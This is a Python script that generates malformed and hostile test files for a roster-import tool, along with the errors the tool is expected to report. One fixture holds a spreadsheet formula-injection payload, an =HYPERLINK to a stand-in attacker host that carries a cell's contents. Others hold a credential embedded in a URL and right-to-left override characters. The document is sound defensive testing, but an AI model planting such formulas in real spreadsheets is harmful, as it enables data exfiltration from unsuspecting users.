"""Write the hostile and broken input corpus in ``tests/samples/bad/`` and its ``EXPECTED.json``.

    .venv/bin/python scripts/make_bad_samples.py            # rewrite tests/samples/bad/
    .venv/bin/python scripts/make_bad_samples.py --out DIR  # write elsewhere (to compare)

Every file is committed, so the corpus can be inspected without running anything; this script
is how the binary ones (.xlsx) were made. The workbooks start from real exports: a SCIM one from
an in-memory sandbox seeded like the test fixture (``SANDBOX_USERS`` users, seed 1, so platform
ids match), and a Progression one from its CSV export, then each is broken in one way.

``EXPECTED.json`` maps each file to the commands run on it and, per command, the exit code
(1 data, 2 usage) and text the output must contain (naming the sheet, cell, line or row).
A SCIM workbook's Settings hold ``PLACEHOLDER_URL``; the test points a copy at its live sandbox
to prove the command sends nothing.
"""

from __future__ import annotations

import argparse
import codecs
import io
import json
import random
import shutil
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from openpyxl import Workbook, load_workbook
from openpyxl.workbook.workbook import Workbook as WorkbookType

ROOT = Path(__file__).resolve().parents[1]
BAD = ROOT / "tests" / "samples" / "bad"
SAMPLES = ROOT / "tests" / "samples"

PLACEHOLDER_URL = "http://127.0.0.1:9/v2"
"""Where the SCIM workbooks point (port 9 discards); the test swaps in its sandbox's URL."""
SANDBOX_USERS = 12
"""Users in the sandbox the SCIM workbooks were exported from (seed 1), and in the test's."""

Run = dict[str, Any]
Expected = dict[str, dict[str, Any]]

# --- CSV files --------------------------------------------------------------------------------

P_HEAD = "First Name,Last Name,email,position,team,manager,account_active"
P_ROWS = [
    "Amara,Okafor,amara.okafor@example.com,Head of Engineering,Engineering,,Active",
    "Tomasz,Nowak,tomasz.nowak@example.com,Senior Engineer,Engineering,amara.okafor@example.com,Active",
    "Zoë,Lefèvre,zoe.lefevre@example.com,Engineer II,Engineering,tomasz.nowak@example.com,Active",
    "Siobhán,O'Neill,siobhan.oneill@example.com,Product Designer,Design,amara.okafor@example.com,Active",
]


def _lines(*lines: str, end: str = "\r\n") -> str:
    return "".join(line + end for line in lines)


def _typo(row: str) -> str:
    """The row with its status misspelt: the planted error whose address proves the file was read right."""
    return row.rsplit(",", 1)[0] + ",actve"


def _check(exit_code: int, *message: str, args: tuple[str, ...] = ()) -> Run:
    return {"command": ["check", *args], "exit_code": exit_code, "message": list(message)}


def csv_cases() -> dict[str, tuple[bytes, str, list[Run]]]:
    """File name -> (bytes, why, runs)."""
    p = P_ROWS
    cases: dict[str, tuple[bytes, str, list[Run]]] = {}

    def add(name: str, data: bytes | str, why: str, *runs: Run) -> None:
        cases[name] = (data.encode("utf-8") if isinstance(data, str) else data, why, list(runs))

    # Empty and blank.
    add("csv_empty.csv", b"", "0 bytes", _check(2, "csv_empty.csv: the file is empty."))
    add("csv_whitespace_only.csv", "  \r\n\t\r\n\r\n", "only blanks and line ends", _check(2, "csv_whitespace_only.csv: the file is empty."))
    add("csv_blank_first_line.csv", "\r\n" + _lines(P_HEAD, p[0]), "a blank line above the header",
        _check(2, "csv_blank_first_line.csv: the first line should be the header row, but it is blank."))
    add("csv_header_only.csv", _lines(P_HEAD), "an empty sheet: the header and no users",
        _check(0, "0 rows checked: no problems."))
    # Wrong, missing and duplicated headers.
    add("csv_unknown_headers.csv", _lines("Name,Mail,Dept", "Amara,amara.okafor@example.com,Engineering"),
        "no header of any platform", _check(2, "csv_unknown_headers.csv: cannot tell which platform", "give --dialect"))
    add("csv_header_typo.csv", _lines(P_HEAD.replace("account_active", "acount_active"), p[0], p[1]),
        "a misspelt header", _check(1, "csv_header_typo.csv!G1 acount_active: 'acount_active' is not a Progression column", "Did you mean 'account_active'?"))
    add("csv_duplicate_header.csv", _lines(P_HEAD + ",email", p[0] + ",amara@example.com"),
        "the key header twice", _check(1, "csv_duplicate_header.csv!H1 email: 'email' names column 'email' again (first in C1)."))
    add("csv_missing_key_column.csv",
        _lines("First Name,Last Name,position,team,manager,account_active", "Amara,Okafor,Head of Engineering,Engineering,,Active"),
        "no email column (the key)", _check(1, "csv_missing_key_column.csv email: the header row has no 'email' column", args=("--dialect", "progression")))
    add("csv_missing_required_column.csv",
        _lines("First Name,email,position,team,manager,account_active", "Amara,amara.okafor@example.com,Head of Engineering,Engineering,,Active"),
        "no Last Name column", _check(1, "csv_missing_required_column.csv Last Name: the header row has no 'Last Name' column", args=("--dialect", "progression")))
    add("csv_header_wrong_platform.csv", (SAMPLES / "jostle_extract.csv").read_bytes(), "a Jostle file checked as Progression",
        _check(1, "csv_header_wrong_platform.csv!A1 Username: 'Username' is not a Progression column", args=("--dialect", "progression")))
    # Stray quotes.
    add("csv_stray_quote_unclosed.csv", _lines(P_HEAD, p[0], 'Tomasz,"Nowak,tomasz.nowak@example.com,Senior Engineer,Engineering,,Active', p[2]),
        "an opening quote never closed", _check(2, "csv_stray_quote_unclosed.csv: a quoted cell starting on line 3 is never closed"))
    add("csv_stray_quote_inside.csv", _lines(P_HEAD, 'Tom "The Hammer",Nowak,tomasz.nowak@example.com,,,,Active', _typo(p[2])),
        "quotes inside an unquoted cell are text; row 3's error proves nothing shifted", _check(1, "csv_stray_quote_inside.csv!G3 account_active: 'actve'"))
    add("csv_stray_quote_after_closing.csv", _lines(P_HEAD, p[0], 'Tomasz,Nowak,"tomasz.nowak@example.com"x,,,,Active'),
        "text after a closing quote: the key would silently become 'tomasz.nowak@example.comx'",
        _check(1, "csv_stray_quote_after_closing.csv!C3 email:", "closing quote"))
    add("csv_truncated_in_quote.csv", _lines(P_HEAD, p[0]) + 'Tomasz,Nowak,tomasz.nowak@example.com,"Senior Eng',
        "the file ends inside a quoted cell (cut short)", _check(2, "csv_truncated_in_quote.csv: a quoted cell starting on line 3 is never closed"))
    add("csv_truncated_mid_row.csv", _lines(P_HEAD, p[0]) + "Tomasz,Nowak,tomasz.nowak@exa",
        "the file ends in the middle of a row", _check(1, "csv_truncated_mid_row.csv!C3 email: 'tomasz.nowak@exa'"))
    add("csv_unquoted_delimiter.csv", _lines(P_HEAD, p[0], "Tomasz,Nowak,tomasz.nowak@example.com,Senior Engineer, Platform,Engineering,,Active"),
        "a value with a comma that lost its quotes shifts the cells after it",
        _check(1, "csv_unquoted_delimiter.csv!H3: this row has 8 cells but the header row has 7"))
    # BOMs, encodings, line ends.
    add("csv_bom_utf8.csv", codecs.BOM_UTF8 + _lines(P_HEAD, p[0], _typo(p[2])).encode("utf-8"),
        "UTF-8 with a BOM (Excel's 'CSV UTF-8')", _check(1, "csv_bom_utf8.csv!G3 account_active: 'actve'"))
    add("csv_bom_twice.csv", codecs.BOM_UTF8 + ("\ufeff" + _lines(P_HEAD, _typo(p[0]))).encode("utf-8"),
        "two BOMs (a file re-saved by a tool that adds one)", _check(1, "csv_bom_twice.csv!G2 account_active: 'actve'"))
    add("csv_utf16_tab.csv", codecs.BOM_UTF16_LE + _lines(P_HEAD, p[0], _typo(p[2])).replace(",", "\t").encode("utf-16-le"),
        "UTF-16 with tabs (Excel's 'Unicode text')", _check(1, "csv_utf16_tab.csv!G3 account_active: 'actve'"))
    add("csv_utf16_no_bom.csv", _lines(P_HEAD, p[0]).encode("utf-16-le"), "UTF-16 without a BOM", _check(2, "csv_utf16_no_bom.csv: holds binary data, not CSV text."))
    add("csv_cp1252.csv", _lines(P_HEAD, p[0], _typo(p[2]), p[3]).encode("cp1252"),
        "Windows-1252 (Excel's 'CSV' on Western Windows)", _check(1, "csv_cp1252.csv!G3 account_active: 'actve'"))
    add("csv_bom_then_invalid_utf8.csv", codecs.BOM_UTF8 + _lines(P_HEAD).encode() + "Zoë,Lefèvre,zoe.lefevre@example.com,,,,Active\r\n".encode("cp1252"),
        "a UTF-8 BOM, then Windows-1252 bytes", _check(2, "csv_bom_then_invalid_utf8.csv: starts like utf-8-sig text but byte 70 is not valid"))
    add("csv_sep_hint_semicolon.csv", ("sep=;\r\n" + _lines(P_HEAD, p[0], _typo(p[1])).replace(",", ";")).encode("utf-8"),
        "Excel's sep=; hint line and ';' delimiters", _check(1, "csv_sep_hint_semicolon.csv!G3 account_active: 'actve'"))
    add("csv_cr_only.csv", _lines(P_HEAD, p[0], _typo(p[1]), end="\r"), "old Mac line ends (CR only)", _check(1, "csv_cr_only.csv!G3 account_active: 'actve'"))
    add("csv_mixed_line_ends.csv", P_HEAD + "\n" + p[0] + "\r\n" + _typo(p[1]) + "\r" + p[2] + "\n",
        "LF, CRLF and CR in one file", _check(1, "csv_mixed_line_ends.csv!G3 account_active: 'actve'"))
    # Not CSV at all.
    add("csv_nul_bytes.csv", _lines(P_HEAD, "Am\x00ara,Okafor,amara.okafor@example.com,,,,Active"), "NUL bytes in the text", _check(2, "csv_nul_bytes.csv: holds binary data, not CSV text."))
    add("csv_is_a_workbook.csv", _zip_bytes({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}),
        "an .xlsx renamed .csv", _check(2, "csv_is_a_workbook.csv: is an Excel workbook (.xlsx), not a CSV file"))
    add("csv_is_xls.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 4, "an Excel 97-2003 file renamed .csv",
        _check(2, "csv_is_xls.csv: is an Excel 97-2003 workbook (.xls), which rosterbook cannot read"))
    add("csv_is_pdf.csv", _pdf_bytes(), "a PDF renamed .csv", _check(2, "csv_is_pdf.csv: holds binary data, not CSV text."))
    add("csv_is_pdf_text_only.csv", b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
        "a PDF without binary streams: read as text, no platform's header", _check(2, "csv_is_pdf_text_only.csv: cannot tell which platform"))
    # Formulas, dates and numbers where text is expected.
    add("csv_formula_cells.csv", _lines(P_HEAD, '"=HYPERLINK(""http://evil.example/?""&C2,""Amara"")",Okafor,amara.okafor@example.com,,=1+1,,Active'),
        "formulas typed into data cells", _check(1, "csv_formula_cells.csv!A2 First Name: '=HYPERLINK(", "csv_formula_cells.csv!E2 team: '=1+1' is a formula's text"))
    add("csv_excel_mangled_numbers.csv",
        _lines("Username,First Name,Last Name,Work Email,Job Title,Location,Org,Manager,Work Phone,Employee ID,Start Date",
               "sarah.lee,Sarah,Lee,sarah.lee@example.net,CEO,Main\\|HQ,Executive,,4.16555E+10,1.01E+02,2015-03-02",
               "david.cohen,David,Cohen,david.cohen@example.net,VP Operations,Main\\|HQ,Operations,sarah.lee,+1 416 555 0101,000102,7/18/2016"),
        "Excel rewrote IDs and phones as numbers and a date in the US locale",
        _check(1, "csv_excel_mangled_numbers.csv!I2 Work Phone:", "csv_excel_mangled_numbers.csv!J2 Employee ID:", "csv_excel_mangled_numbers.csv!K3 Start Date:"))
    add("csv_duplicate_keys.csv", _lines(P_HEAD, p[0], p[1], p[0].replace("amara.okafor@example.com", "Amara.Okafor@Example.com")),
        "the same user twice, spelt in another case", _check(1, "csv_duplicate_keys.csv!C4 email: 'Amara.Okafor@Example.com' is already the email of row 2"))
    add("csv_wrong_list_separator.csv",
        _lines("Email,Username,First Name,Last Name,User groups,Roles,Password,External ID",
               "olivia.hart@example.org,olivia.hart@example.org,Olivia,Hart,marketing,\"Admin,Learner\",,000417"),
        "an EdApp list written with commas", _check(1, "csv_wrong_list_separator.csv!F2 Roles:"))
    add("csv_control_characters.csv", _lines(P_HEAD, "Am\x1bara\x07,Oka\u202efor,amara.okafor@example.com,,,,Active", _typo(p[1])),
        "escape, bell and right-to-left override characters in names", _check(1, "csv_control_characters.csv!G3 account_active: 'actve'"))
    return cases


def _zip_bytes(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in members.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), text)
    return buffer.getvalue()


def _pdf_bytes() -> bytes:
    stream = bytes(random.Random(7).getrandbits(8) for _ in range(512)) + bytes(8)  # compressed streams hold NUL bytes
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 512 /Filter /FlateDecode >>\nstream\n" + stream + b"\nendstream\nendobj\n%%EOF\n"


# --- workbooks --------------------------------------------------------------------------------


def _scim_base(folder: Path) -> Path:
    """A workbook exported from a sandbox seeded like the test fixture, pointing at the placeholder URL."""
    from rosterbook.app import export_workbook
    from rosterbook.sandbox import start_sandbox

    path = folder / "scim_base.xlsx"
    with start_sandbox(users=SANDBOX_USERS, seed=1) as sandbox:
        export_workbook(path, platform=sandbox.url)
    wb = load_workbook(path)
    _set_setting(wb, "platform_url", PLACEHOLDER_URL)
    wb.save(path)
    return path


def _progression_base(folder: Path) -> Path:
    from rosterbook.app import export_workbook

    path = folder / "progression_base.xlsx"
    export_workbook(path, from_csv=SAMPLES / "progression_export.csv")
    return path


def _set_setting(wb: WorkbookType, key: str, value: Any) -> None:
    ws = wb["Settings"]
    for row in ws.iter_rows(min_row=2):
        if row[0].value == key:
            row[1].value = value
            return
    raise KeyError(key)


def _header_column(ws: Any, header: str) -> int:
    for cell in ws[1]:
        if cell.value == header:
            return int(cell.column)
    raise KeyError(header)


BookEdit = Callable[[WorkbookType], None]


def _users_cell(header: str, row: int, value: Any) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        ws = wb["Users"]
        ws.cell(row=row, column=_header_column(ws, header), value=value)

    return edit


def _rename_header(old: str, new: str | None) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        ws = wb["Users"]
        ws.cell(row=1, column=_header_column(ws, old)).value = new  # ws.cell(value=None) would leave the old value

    return edit


def _delete_sheet(name: str) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        del wb[name]

    return edit


def _snapshot_cell(address: str, value: Any) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        wb["_snapshot"][address] = value

    return edit


def _delete_row_id_column(wb: WorkbookType) -> None:
    ws = wb["Users"]
    ws.delete_cols(_header_column(ws, "_row_id"))


def _merge(cells: str) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        wb["Users"].merge_cells(cells)

    return edit


def _all(*edits: BookEdit) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        for one in edits:
            one(wb)

    return edit


def _clear_users(wb: WorkbookType) -> None:
    ws = wb["Users"]
    for table in list(ws.tables):
        del ws.tables[table]
    ws.delete_rows(1, ws.max_row)


def _snapshot_visible_and_edited(wb: WorkbookType) -> None:
    ws = wb["_snapshot"]
    ws.sheet_state = "visible"
    ws["C3"] = str(ws["C3"].value).replace('"key":"', '"key":"someone.else.')
    ws["A5"] = None


DAMAGED = "_snapshot: the export snapshot was edited, truncated or re-ordered outside rosterbook"


def _snapshot_rows_deleted(first: int, count: int) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        wb["_snapshot"].delete_rows(first, count)

    return edit


def _snapshot_rows_swapped(a: int, b: int) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        ws = wb["_snapshot"]
        width = ws.max_column
        first = [ws.cell(a, c).value for c in range(1, width + 1)]
        for c in range(1, width + 1):
            ws.cell(a, c).value = ws.cell(b, c).value
            ws.cell(b, c).value = first[c - 1]

    return edit


def _snapshot_column_reversed(letter: str) -> BookEdit:
    def edit(wb: WorkbookType) -> None:
        ws = wb["_snapshot"]
        cells = [ws[f"{letter}{n}"] for n in range(2, ws.max_row + 1)]
        values = [c.value for c in cells][::-1]
        for cell, value in zip(cells, values, strict=True):
            cell.value = value

    return edit


def book_cases() -> dict[str, tuple[str, str, BookEdit | None, bytes | None, list[Run]]]:
    """File name -> (base 'scim'|'progression'|'', why, edit of the base, or raw bytes, runs)."""
    sync = ["sync", "--yes"]

    def both(exit_code: int, check_message: str | list[str], sync_message: str | list[str], sync_code: int | None = None) -> list[Run]:
        cm = [check_message] if isinstance(check_message, str) else check_message
        sm = [sync_message] if isinstance(sync_message, str) else sync_message
        return [
            {"command": ["check", "--no-write"], "exit_code": exit_code, "message": cm},
            {"command": sync, "exit_code": exit_code if sync_code is None else sync_code, "message": sm},
        ]

    unreadable = "cannot be read as an .xlsx workbook"
    cases: dict[str, tuple[str, str, BookEdit | None, bytes | None, list[Run]]] = {
        # Not a workbook at all.
        "book_empty_file.xlsx": ("", "0 bytes named .xlsx", None, b"", both(2, unreadable, unreadable)),
        "book_renamed_pdf.xlsx": ("", "a PDF renamed .xlsx", None, _pdf_bytes(), both(2, unreadable, unreadable)),
        "book_renamed_csv.xlsx": ("", "a CSV file renamed .xlsx", None, (SAMPLES / "progression_export.csv").read_bytes(), both(2, unreadable, unreadable)),
        "book_renamed_xls.xlsx": ("", "an Excel 97-2003 file renamed .xlsx", None, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048),
                                  both(2, "is an Excel 97-2003 workbook (.xls), which rosterbook cannot read: open it in Excel and save it as Excel Workbook (.xlsx)",
                                       "is an Excel 97-2003 workbook (.xls)")),
        "book_garbage.xlsx": ("", "random bytes", None, bytes(random.Random(3).getrandbits(8) for _ in range(4096)), both(2, unreadable, unreadable)),
        "book_zip_not_workbook.xlsx": ("", "a zip archive of other files", None, _zip_bytes({"notes.txt": "hello", "photo.jpg": "\xff\xd8"}), both(2, unreadable, unreadable)),
        # Not a rosterbook workbook, or its sheets deleted.
        "book_plain_workbook.xlsx": ("", "an ordinary workbook with a user list but no rosterbook layout", None, _plain_workbook(),
                                     both(1, "no 'Settings' sheet", "no 'Settings' sheet")),
        "book_users_sheet_deleted.xlsx": ("scim", "the Users sheet deleted", _delete_sheet("Users"), None, both(1, "no 'Users' sheet", "no 'Users' sheet")),
        "book_settings_sheet_deleted.xlsx": ("scim", "the Settings sheet deleted", _delete_sheet("Settings"), None, both(1, "no 'Settings' sheet", "no 'Settings' sheet")),
        # The hidden snapshot.
        "book_snapshot_deleted.xlsx": ("scim", "the very hidden _snapshot sheet deleted (rows still carry row ids)", _delete_sheet("_snapshot"), None,
                                       both(1, "the very hidden '_snapshot' sheet is missing", "the very hidden '_snapshot' sheet is missing")),
        "book_snapshot_header_edited.xlsx": ("scim", "the snapshot's header edited", _snapshot_cell("A1", "id"), None,
                                             both(1, "_snapshot!A1: the snapshot sheet's header was changed", "_snapshot!A1")),
        "book_snapshot_bad_json.xlsx": ("scim", "a snapshot entry is not JSON any more", _snapshot_cell("C4", "{not json"), None,
                                        both(1, [DAMAGED, "_snapshot!A4"], [DAMAGED, "_snapshot!A4"])),
        "book_snapshot_values_not_texts.xlsx": ("scim", "a snapshot entry replaced by other JSON", _snapshot_cell("C5", '{"key": "x", "values": {"Username": 42}}'),
                                                None, both(1, [DAMAGED, "_snapshot!A5"], [DAMAGED, "_snapshot!A5"])),
        "book_snapshot_duplicate_row_id.xlsx": ("scim", "two snapshot rows with one row id", _snapshot_cell("A6", "r1"), None,
                                                both(1, [DAMAGED, "_snapshot!A6"], [DAMAGED, "_snapshot!A6"])),
        "book_snapshot_row_without_check.xlsx": ("scim", "a snapshot row's check erased", _snapshot_cell("B7", None), None,
                                                 both(1, [DAMAGED, "_snapshot!A7"], [DAMAGED, "_snapshot!A7"])),
        "book_snapshot_truncated.xlsx": ("scim", "the snapshot's last rows deleted", _snapshot_rows_deleted(10, 4), None,
                                         both(1, [DAMAGED, "rows deleted, added or moved"], [DAMAGED, "rows deleted, added or moved"])),
        "book_snapshot_reordered.xlsx": ("scim", "two rows of the snapshot swapped", _snapshot_rows_swapped(3, 8), None,
                                         both(1, [DAMAGED, "rows deleted, added or moved"], [DAMAGED, "rows deleted, added or moved"])),
        "book_snapshot_column_sorted.xlsx": ("scim", "one column of the snapshot sorted on its own", _snapshot_column_reversed("C"), None,
                                             both(1, [DAMAGED, "do not match their check"], [DAMAGED, "do not match their check"])),
        "book_snapshot_unhidden_edited.xlsx": ("scim", "the snapshot made visible, an entry edited and a row id erased", _snapshot_visible_and_edited, None,
                                               both(1, [DAMAGED, "_snapshot!A3"], [DAMAGED, "_snapshot!A3"])),
        "book_row_id_column_deleted.xlsx": ("scim", "the hidden _row_id column deleted", _delete_row_id_column, None,
                                            both(1, "the hidden '_row_id' column is missing", "the hidden '_row_id' column is missing")),
        "book_row_id_edited.xlsx": ("scim", "a hidden row id edited", _users_cell("_row_id", 4, "r999"), None,
                                    both(1, "Users!V4 _row_id: hidden row id 'r999' is not in the export snapshot", "Row 4: the hidden row id is not in the export snapshot")),
        "book_dialect_sheet_edited.xlsx": ("scim", "the very hidden _dialect sheet edited", _dialect_edit, None,
                                           both(1, "_dialect: the stored platform dialect was edited", "_dialect: the stored platform dialect was edited")),
        # Headers.
        "book_key_header_renamed.xlsx": ("scim", "the key column's header renamed", _rename_header("Username", "Login name"), None,
                                         both(1, "Users!A1 Login name: 'Login name' is not a SCIM 2.0 platform column", "header")),
        "book_header_duplicated.xlsx": ("scim", "two columns headed Email", _rename_header("Job title", "Email"), None,
                                        both(1, "Users!F1 Email: 'Email' names column 'Email' again (first in D1).", "Users!F1")),
        "book_header_blank.xlsx": ("scim", "the key column's header erased", _rename_header("Username", None), None,
                                   both(1, "Users Username: the header row has no 'Username' column", "header")),
        "book_merged_header.xlsx": ("scim", "header cells A1:B1 merged (B1's header is lost)", _merge("A1:B1"), None,
                                    both(1, ["Users!A1 Username: A1:B1 are merged cells", "Users!B1: column B has no header but holds values"],
                                         "the sheet's header has errors, nothing was sent")),
        "book_merged_data_cells.xlsx": ("scim", "Status cells E3:E5 merged: E4 and E5 lose their value", _merge("E3:E5"), None,
                                        [{"command": ["check", "--no-write"], "exit_code": 1, "message": ["Users!E3 Status: E3:E5 are merged cells"]},
                                         # Blank keeps the current value, so the unchanged rows send nothing.
                                         {"command": ["sync", "--yes"], "exit_code": 0, "message": ["Synced 0 rows"]}]),
        # Cells.
        "book_formula_in_name.xlsx": ("scim", "a formula typed into a name", _users_cell("First name", 3, '=PROPER("amara")'), None,
                                      both(1, "Users!B3 First name: '=PROPER(\"amara\")' is a formula's text", "row 3")),
        "book_formula_in_key.xlsx": ("scim", "a formula building the key", _users_cell("Username", 5, '=LOWER(B5)&"@lumen.example"'), None,
                                     both(1, "Users!A5 Username:", "row 5")),
        "book_number_in_id.xlsx": ("scim", "an Employee ID Excel turned into a number past 15 digits", _users_cell("Employee ID", 6, 1.2345678901234567e19), None,
                                   both(1, "Users!N6 Employee ID: '1.23456789012345", "row 6")),
        "book_number_in_id_warning.xlsx": ("scim", "an Employee ID typed as a number: leading zeros may be lost (a warning)", _users_cell("Employee ID", 6, 17), None,
                                           [{"command": ["check", "--no-write"], "exit_code": 0, "message": ["Users!N6 Employee ID: '17' was stored as a number"]}]),
        "book_date_in_name.xlsx": ("scim", "a date where a name is expected", _users_cell("Last name", 7, _date()), None,
                                   both(1, "Users!C7 Last name:", "row 7")),
        "book_bad_status_and_email.xlsx": ("scim", "a misspelt status and an invalid email",
                                           _all(_users_cell("Status", 8, "actve"), _users_cell("Email", 9, "not-an-email")), None,
                                           both(1, ["Users!E8 Status: 'actve'", "Users!D9 Email:"], "rows 8, 9")),
        "book_empty_users_sheet.xlsx": ("scim", "the Users sheet emptied, header included", _clear_users, None,
                                        both(1, "Users: the hidden '_row_id' column is missing", "Users: the hidden '_row_id' column is missing")),
        # Settings.
        "book_settings_token_in_url.xlsx": ("scim", "a token pasted into the platform URL",
                                            lambda wb: _set_setting(wb, "platform_url", "https://admin:s3cr3t-T0KEN@example.com/scim/v2"), None,
                                            both(1, "Settings!B3 platform_url: looks like it carries a credential", "Settings!B3")),
        "book_settings_unknown_dialect.xlsx": ("scim", "an unknown dialect in Settings", lambda wb: _set_setting(wb, "dialect", "workday"), None,
                                               both(2, "'workday'", "'workday'")),
        "book_settings_bad_threshold.xlsx": ("scim", "a deletion threshold over 100%", lambda wb: _set_setting(wb, "deletion_threshold_ratio", "150%"), None,
                                             both(1, "Settings!B5 deletion_threshold_ratio: '150%' is not a number between 0 and 1.", "Settings!B5")),
        "book_settings_unknown_key.xlsx": ("scim", "an unknown setting", _settings_extra_row, None,
                                           both(1, "Settings!A8: 'api_token' is not a setting", "Settings!A8")),
        # A CSV platform's workbook: sync would write an upload file; a bad cell must stop that too.
        "book_progression_bad_cells.xlsx": ("progression", "a Progression workbook with a misspelt status and a formula",
                                            _all(_users_cell("account_active", 4, "actve"), _users_cell("Last Name", 6, "=1+1")), None,
                                            both(1, ["Users!G4 account_active: 'actve'", "Users!B6 Last Name: '=1+1'"], "rows 4, 6")),
    }
    return cases


def _date() -> Any:
    import datetime as dt

    return dt.datetime(2024, 3, 1)


def _plain_workbook() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "Users"
    ws.append(["Username", "First name", "Last name", "Email"])
    ws.append(["amara.okafor", "Amara", "Okafor", "amara.okafor@example.com"])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _dialect_edit(wb: WorkbookType) -> None:
    ws = wb["_dialect"]
    ws["A2"] = str(ws["A2"].value)[:-40] + "oops"


def _settings_extra_row(wb: WorkbookType) -> None:
    ws = wb["Settings"]
    ws.append(["api_token", "abc", ""])


# --- writing ------------------------------------------------------------------------------------


def write_corpus(out: Path) -> Expected:
    """Write every file into ``out`` and return the expectations (also written as EXPECTED.json)."""
    out.mkdir(parents=True, exist_ok=True)
    for old in out.iterdir():
        if old.is_file() and old.suffix in (".csv", ".xlsx", ".json"):
            old.unlink()
    expected: Expected = {}
    for name, (data, why, runs) in sorted(csv_cases().items()):
        (out / name).write_bytes(data)
        expected[name] = {"why": why, "runs": runs}
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        bases: dict[str, Path] = {}
        for name, (base, why, edit, raw, runs) in sorted(book_cases().items()):
            target = out / name
            if raw is not None:
                target.write_bytes(raw)
            else:
                if base not in bases:
                    bases[base] = _scim_base(folder) if base == "scim" else _progression_base(folder)
                shutil.copyfile(bases[base], target)
                wb = load_workbook(target)
                assert edit is not None
                edit(wb)
                wb.save(target)
            expected[name] = {"why": why, "runs": runs, **({"platform_url": PLACEHOLDER_URL} if _points_at_placeholder(target) else {})}
    (out / "EXPECTED.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False, sort_keys=True) + "\n", encoding="utf-8")
    return expected


def _points_at_placeholder(path: Path) -> bool:
    try:
        wb = load_workbook(path)
    except Exception:  # not a workbook at all: nothing to point anywhere
        return False
    if "Settings" not in wb.sheetnames:
        return False
    return any(row[0] == "platform_url" and row[1] == PLACEHOLDER_URL for row in wb["Settings"].iter_rows(min_row=2, values_only=True))


def main() -> None:
    """Command line: write the corpus (default into tests/samples/bad)."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--out", type=Path, default=BAD)
    args = parser.parse_args()
    expected = write_corpus(args.out)
    print(f"{len(expected)} files written to {args.out}")


if __name__ == "__main__":
    main()
